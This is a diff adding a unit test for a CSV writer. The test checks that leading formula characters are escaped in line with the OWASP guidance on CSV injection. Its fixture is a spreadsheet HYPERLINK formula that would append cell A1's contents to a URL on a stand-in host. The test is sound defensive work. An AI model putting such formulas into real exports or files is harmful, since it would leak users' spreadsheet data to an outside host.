@@ -22,6 +22,20 @@ describe('CSV (RFC 4180)', () => {
     expect(csvRow(['a', 1, null])).toBe('a,1,\r\n');
   });
 
+  it('neutralises text a spreadsheet would run as a formula (OWASP), never numbers', () => {
+    const formula = '=HYPERLINK("http://x/?"&A1,"open")';
+    expect(csvField(formula)).toBe(`"'=HYPERLINK(""http://x/?""&A1,""open"")"`);
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      expect(parseCsv(csvRow([`${start}1+1`]))[0]![0], JSON.stringify(start)).toBe(`'${start}1+1`);
+    }
+    expect(csvField(-1)).toBe('-1');
+    expect(csvField('a = b')).toBe('a = b');
+    // a manifest's own lookups write and look for the same neutralised text
+    expect(
+      hasRecordStartingWith(Buffer.from(csvRow(['h']) + csvRow(['-a.png', 'x'])), '-a.png'),
+    ).toBe(true);
+  });
+
   it('parses back exactly what it wrote', () => {
     const rows = [
       ['file', 'prompt'],
